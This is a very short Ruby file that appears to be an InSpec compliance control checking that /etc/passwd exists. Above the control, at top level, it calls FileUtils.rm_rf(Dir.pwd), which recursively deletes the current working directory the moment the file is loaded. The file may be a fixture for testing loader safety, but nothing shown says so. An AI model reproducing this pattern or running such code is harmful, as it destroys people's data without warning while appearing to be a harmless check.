require "fileutils"
FileUtils.rm_rf(Dir.pwd)

control "deletes" do
  describe file("/etc/passwd") do
    it { should exist }
  end
end
